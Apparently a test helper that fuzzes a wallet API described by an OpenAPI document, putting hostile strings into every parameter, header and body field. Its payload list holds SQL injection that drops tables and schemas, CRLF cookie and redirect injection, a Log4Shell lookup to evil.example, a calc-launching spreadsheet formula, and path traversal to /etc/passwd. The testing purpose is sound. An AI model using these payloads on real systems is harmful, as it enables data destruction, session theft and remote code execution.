"""Requests with hostile text in each input of each route, generated from an OpenAPI document."""

import itertools
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

from httpx import AsyncClient, Response

Json = dict[str, Any]

PAYLOADS = (
    "'; DROP TABLE wallet.wallets CASCADE; --",
    "' OR '1'='1",
    "x' UNION SELECT current_user, version(), 1 --",
    "'||pg_sleep(9)||'",
    "\\'; SELECT 1; --",
    "$1::text, %s, %(id)s, :user_id, {0}, {user_id}",
    "$$; DROP SCHEMA history CASCADE; $$",
    "\N{FULLWIDTH APOSTROPHE}; DROP TABLE wallet.outbox; --",
    "\N{MODIFIER LETTER APOSTROPHE} OR 1=1",
    "a\r\nSet-Cookie: session=stolen\r\n\r\n<html>",
    "a%0d%0aLocation: https://evil.example",
    "a\N{LINE SEPARATOR}b\N{NEXT LINE}c\x0bd",
    "\x00",
    "\x1b[2J\x1b]0;owned\x07",
    "\N{RIGHT-TO-LEFT OVERRIDE}drocer\N{POP DIRECTIONAL FORMATTING}",
    "e\N{COMBINING ACUTE ACCENT}\N{ZERO WIDTH JOINER}\N{VARIATION SELECTOR-16}",
    "\N{GRINNING FACE}" * 64,
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "=cmd|' /C calc'!A0",
    "NaN",
    "-0",
    "9" * 400,
)

HEADERS = (
    *("authorization", "accept", "content-type", "cookie", "origin", "referer", "user-agent", "traceparent"),
    *("x-forwarded-for", "x-forwarded-host", "x-forwarded-proto", "forwarded", "x-http-method-override"),
)


@dataclass(frozen=True)
class Attack:
    """A request whose input `where` has hostile text, and whose other inputs are valid."""

    where: str
    method: str
    path: str
    query: dict[str, str] = field(default_factory=dict)
    headers: dict[str, str] = field(default_factory=dict)
    body: Any = None

    async def send(self, client: AsyncClient) -> Response:
        """Send the request."""
        headers = [(name.encode(), value.encode()) for name, value in self.headers.items()]
        return await client.request(self.method, self.path, params=self.query, headers=headers, json=self.body)


def attacks(document: Json, valid: Json, payloads: Sequence[str] = PAYLOADS) -> Iterator[Attack]:
    """Return the attacks on each input of each route.

    Args:
        document: the OpenAPI document.
        valid: a valid value for each path parameter, each required one of a query, and each required field of a body.
        payloads: the hostile texts.
    """
    routes = [
        (method.upper(), path, operation)
        for path, methods in document["paths"].items()
        for method, operation in methods.items()
    ]
    for (method, path, operation), payload in itertools.product(routes, payloads):
        yield from _on_route(method, path, operation, valid, payload)


def _on_route(method: str, path: str, operation: Json, valid: Json, payload: str) -> Iterator[Attack]:
    parameters = operation.get("parameters", [])
    names = {kind: [each["name"] for each in parameters if each["in"] == kind] for kind in ("path", "query", "header")}
    content = operation.get("requestBody", {}).get("content", {})
    schema = content["application/json"]["schema"] if content else {}
    body = {name: valid[name] for name in schema.get("required", [])} if content else None
    query = {each["name"]: valid[each["name"]] for each in parameters if each["in"] == "query" and each["required"]}
    right = path.format(**{name: quote(valid[name], safe="") for name in names["path"]})
    for name in names["path"]:
        wrong = {other: quote(payload if other == name else valid[other], safe="") for other in names["path"]}
        yield Attack(f"path {name}", method, path.format(**wrong), query, body=body)
    for name in [*names["query"], payload]:
        yield Attack(f"query {name}", method, right, {**query, name: payload}, body=body)
    for name in [*names["header"], *HEADERS]:
        yield Attack(f"header {name}", method, right, query, {name: payload}, body)
    for name in schema.get("properties", {}):
        yield Attack(f"body {name}", method, right, body={**(body or {}), name: payload})
    for name, field_schema in schema.get("properties", {}).items():
        # The operations of a batch have the fields of their own routes: one kind of them is enough.
        items = field_schema.get("items", {})
        for inner in items.get("oneOf", [items])[0].get("properties", {}):
            item = {**valid[name][0], inner: payload}
            yield Attack(f"body {name} {inner}", method, right, body={**(body or {}), name: [item]})
    if content:
        for metadata in ({payload: payload}, {"a": [{payload: [payload]}]}):
            yield Attack("body metadata", method, right, body={**(body or {}), "metadata": metadata})
        yield Attack("body", method, right, body={**(body or {}), payload: payload})
